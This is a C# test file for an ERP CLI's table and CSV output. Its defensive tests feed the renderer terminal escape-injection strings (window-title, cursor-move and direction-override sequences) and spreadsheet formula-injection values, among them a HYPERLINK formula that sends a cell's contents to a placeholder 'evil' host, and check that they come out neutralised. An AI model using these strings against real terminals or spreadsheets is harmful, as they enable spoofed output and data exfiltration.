using Erp.Db.Cli.Output;
using Erp.Db.Tests.Infrastructure;
using Erp.Db.Tests.Views;

namespace Erp.Db.Tests.Cli;

/// <summary>Tables for people: every line fits the width, and no number or word is broken across lines.</summary>
public class TextTableTests
{
    private static readonly TableView Wide = new(
        ["Code", "Shop", "Platform", "Revenue", "Orders", "Margin"],
        [
            ["SZ-01", "Shenzhen Consumer Electronics Flagship Store (official)", "shopee", "1,115,101.69", "12,345", "23.4%"],
            ["SM-02", "Small shop", "tiktok", "-3.50", "1", "n/a"],
        ],
        "Period 2026-11-01..2026-11-30 (complete).");

    [Theory]
    [InlineData(80)]
    [InlineData(120)]
    public void Lines_fit_the_width_and_numbers_stay_whole_and_right_aligned(int width)
    {
        var text = TextTable.Render(Wide, width);
        var lines = text.Split('\n', StringSplitOptions.RemoveEmptyEntries);

        Assert.All(lines, l => Assert.True(l.TrimEnd('\r').Length <= width, $"{l.Length} > {width}: {l}"));
        foreach (var number in new[] { "1,115,101.69", "12,345", "23.4%", "-3.50" })
        {
            Assert.Contains(number, text);
        }
        // Right-aligned: the revenue cells end in the same column.
        var revenueEnds = lines.Where(l => l.Contains("1,115,101.69") || l.Contains("-3.50")).Select(l => l.IndexOf(l.Contains("-3.50") ? "-3.50" : "1,115,101.69", StringComparison.Ordinal) + (l.Contains("-3.50") ? 5 : 12)).Distinct();
        Assert.Single(revenueEnds);
    }

    [Fact]
    public void A_long_name_is_shortened_with_an_ellipsis_at_80_columns_and_whole_at_120_but_the_first_column_never()
    {
        Assert.Contains("…", TextTable.Render(Wide, 80));
        Assert.Contains("SZ-01", TextTable.Render(Wide, 80));
        Assert.Contains("Shenzhen Consumer Electronics Flagship Store (official)", TextTable.Render(Wide, 120));
    }

    [Fact]
    public void When_the_numbers_alone_do_not_fit_rows_are_printed_vertically()
    {
        var text = TextTable.Render(Wide, 30);

        Assert.Contains("Revenue  : 1,115,101.69", text);
        Assert.Contains("Shop     : Shenzhen Consumer Electronics Flagship Store (official)", text);
    }

    [Fact]
    public void Sentences_to_read_whole_are_wrapped_under_their_header_rather_than_shortened()
    {
        const string error = "canceling statement due to lock timeout while refreshing mart.mv_daily_sales; another session holds its lock";
        var rows = new TableView(["View", "Status", "Error"], [["mart.mv_daily_sales", "failed", error], ["mart.mv_weekly_sales", "succeeded", ""]], WrapText: true);
        var fits = new TableView(["View", "Status", "Error"], [["mart.mv_daily_sales", "failed", "timeout"]], WrapText: true);

        var text = TextTable.Render(rows, 60);

        Assert.All(text.Split('\n'), l => Assert.True(l.TrimEnd('\r').Length <= 60, l));
        Assert.DoesNotContain("…", text);
        Assert.Contains(error, string.Join(' ', text.Split((char[])[' ', '\n', '\r'], StringSplitOptions.RemoveEmptyEntries)));
        Assert.Contains("Error  : canceling statement", text);
        Assert.StartsWith("View                 Status  Error", TextTable.Render(fits, 60));
    }

    private static readonly TableView Chinese = new(
        ["Customer", "Name", "Revenue"],
        [
            ["C-001", "张三的超级保温杯, 大号 \"特价\" 超长名称测试", "3,433.34"],
            ["C-002", "Bloc 😀😀 building\tblocks", "367.68"],
            ["C-003", "Latin name", "12.00"],
        ]);

    [Theory]
    [InlineData(40)]
    [InlineData(60)]
    [InlineData(120)]
    public void Chinese_characters_and_emoji_count_two_columns_so_lines_fit_and_numbers_line_up(int width)
    {
        var lines = TextTable.Render(Chinese, width).Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => l.TrimEnd('\r')).ToList();

        Assert.All(lines, l => Assert.True(TerminalText.Width(l) <= width, $"{TerminalText.Width(l)} columns > {width}: {l}"));
        // Every row's revenue ends in the same terminal column, whatever the name before it holds.
        var ends = lines.Skip(2).Select(l => TerminalText.Width(l)).Distinct();
        Assert.Single(ends);
        // An ellipsis never cuts an emoji in half (a lone surrogate is not text).
        Assert.All(lines, l => Assert.True(l.EnumerateRunes().All(r => r != System.Text.Rune.ReplacementChar), l));
        Assert.All(lines, l => Assert.DoesNotContain('\t', l));
    }

    [Fact]
    public void A_name_is_shortened_by_columns_without_splitting_an_emoji()
    {
        Assert.Equal(7, TerminalText.Width("张三 ab"));
        Assert.Equal("张三…", TerminalText.Shorten("张三的超级保温杯", 6));
        Assert.Equal("a😀…", TerminalText.Shorten("a😀😀😀", 5));
        Assert.Equal("a😀😀", TerminalText.Shorten("a😀😀", 5));
    }

    [Fact]
    public void Control_characters_and_direction_overrides_in_names_are_printed_as_escapes_not_sent_to_the_terminal()
    {
        // A product name as a writer or a platform may store it: colour, a window title (OSC ... BEL), a cursor move up
        // that would overwrite the line printed before it, and a right-to-left override that would show 123.00 reversed.
        const string name = "Evil\u001b[31mRED\u001b]0;pwned\u0007\u001b[1A\u009b2K \u202e123.00";
        const string printed = @"Evil\x1B[31mRED\x1B]0;pwned\x07\x1B[1A\x9B2K \u202E123.00";
        var view = new TableView(["SKU", "Name", "Price"], [["M1-BUI-000001", name, "156.31"]], $"Caption {name}");
        var wrapped = new TableView(["View", "Error"], [["mart.mv_daily_sales", $"failed on {name}\nsecond line"]], WrapText: true);

        foreach (var text in new[] { TextTable.Render(view, 120), TextTable.Render(view, 30), TextTable.Render(wrapped, 40) })
        {
            Assert.DoesNotContain(text, c => char.IsControl(c) && c is not '\n' and not '\r');
            Assert.DoesNotContain('\u202E', text);
        }
        Assert.Contains(printed, TextTable.Render(view, 120));
        Assert.Contains($"Name  : {printed}", TextTable.Render(view, 30));
        Assert.Contains($"Caption {printed}", TextTable.Render(view, 120));
        Assert.Equal("张三 😀 plain", TerminalText.Printable("张三 😀 plain"));
        Assert.Equal("two\nlines\\x1B", TerminalText.Printable("two\nlines\u001b", keepLineBreaks: true));
    }

    /// <summary>A name a spreadsheet would run as a formula is written as text in CSV; figures keep their sign, other text stays as stored.</summary>
    [Fact]
    public void A_name_that_starts_like_a_formula_is_written_to_CSV_as_text_and_numbers_keep_their_sign()
    {
        var records = new[]
        {
            new { Name = "=HYPERLINK(\"http://evil/?\"&A1,\"click\")", Profit = -12.5m, Change = "-3.5%" },
            new { Name = "@SUM(1+1)", Profit = 3m, Change = "+1,234.50" },
            new { Name = "-pre-order", Profit = 0m, Change = "\tTAB" },
            new { Name = "＝HYPERLINK(\"http://evil\")", Profit = 1m, Change = "＋1" },
            new { Name = "＠SUM(1)", Profit = 2m, Change = "－1" },
        };
        using var output = new StringWriter();
        using var error = new StringWriter();

        new CommandOutput(output, error).Success(OutputFormat.Csv, records, [new TableView(["Name"], [], Records: records)], new Dictionary<string, object?>());
        using var rows = new StringWriter();
        new CommandOutput(rows, error).Success(OutputFormat.Csv, records, [new TableView(["Name", "Change"], [["=1+1", "-3.5%"], ["plain", "-1,234.50"]])],
            new Dictionary<string, object?>());

        Assert.Equal(string.Join("\r\n", "name,profit,change", "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\",-12.5,-3.5%",
            "'@SUM(1+1),3,\"+1,234.50\"", "'-pre-order,0,'\tTAB",
            "\"'＝HYPERLINK(\"\"http://evil\"\")\",1,'＋1", "'＠SUM(1),2,'－1", ""), output.ToString());
        Assert.Equal(string.Join("\r\n", "Name,Change", "'=1+1,-3.5%", "plain,\"-1,234.50\"", ""), rows.ToString());
    }

    /// <summary>CSV for a file or a pipe starts with the UTF-8 byte order mark, so that Excel reads a Chinese name as UTF-8; on a terminal it does not.</summary>
    [Fact]
    public void Csv_for_a_file_starts_with_the_utf8_byte_order_mark_and_keeps_chinese_names()
    {
        var records = new[] { new { Sku = "M1-TEA-001", Name = "龙井茶 特级", Price = 128.5m } };
        using var file = new MemoryStream();
        using var error = new StringWriter();
        using var terminal = new StringWriter();

        using (var writer = new StreamWriter(file, new System.Text.UTF8Encoding(encoderShouldEmitUTF8Identifier: false), leaveOpen: true))
        {
            new CommandOutput(writer, error, csvByteOrderMark: true).Success(OutputFormat.Csv, records, [new TableView(["SKU"], [], Records: records)],
                new Dictionary<string, object?>());
        }
        new CommandOutput(terminal, error, csvByteOrderMark: false).Success(OutputFormat.Csv, records, [new TableView(["SKU"], [], Records: records)],
            new Dictionary<string, object?>());

        var bytes = file.ToArray();
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        Assert.Equal("sku,name,price\r\nM1-TEA-001,龙井茶 特级,128.5\r\n", System.Text.Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3));
        // Exactly one mark, and none where a person reads the CSV on a terminal.
        Assert.Equal(1, System.Text.Encoding.UTF8.GetString(bytes).Count(c => c == CommandOutput.ByteOrderMark));
        Assert.Equal("sku,name,price\r\nM1-TEA-001,龙井茶 特级,128.5\r\n", terminal.ToString());
    }

    [Fact]
    public async Task An_error_quoting_a_control_character_is_printed_with_its_escape()
    {
        // The message quotes the path as typed; a file name may hold anything but a slash.
        var run = await CliRun.RunAsync("import", "orders", "/nonexistent/orders\u001b]0;pwned\u0007.csv", "--format", "table");

        Assert.Equal(2, run.ExitCode);
        Assert.DoesNotContain(run.Error, c => char.IsControl(c) && c is not '\n' and not '\r');
        Assert.Contains(@"/nonexistent/orders\x1B]0;pwned\x07.csv", run.Error);
    }

    [Theory]
    [InlineData("80")]
    [InlineData("120")]
    public async Task Views_table_keeps_each_view_name_whole_at_the_terminal_width(string columns)
    {
        await using var db = await TestDatabase.CreateMigratedAsync();
        await SalesDataset.LoadAsync(db);
        await CliRun.RunAsync("refresh", "--all", "--connection", db.ConnectionString);

        var table = await CliRun.RunAsync(new Dictionary<string, string> { ["COLUMNS"] = columns }, "views", "--connection", db.ConnectionString, "--format", "table");

        Assert.Equal(0, table.ExitCode);
        Assert.All(table.Output.Split('\n'), l => Assert.True(l.TrimEnd('\r').Length <= int.Parse(columns), l));
        foreach (var view in WarehouseViews.Names)
        {
            Assert.Contains(view.Replace("mart.", "", StringComparison.Ordinal), table.Output);
        }
    }
}
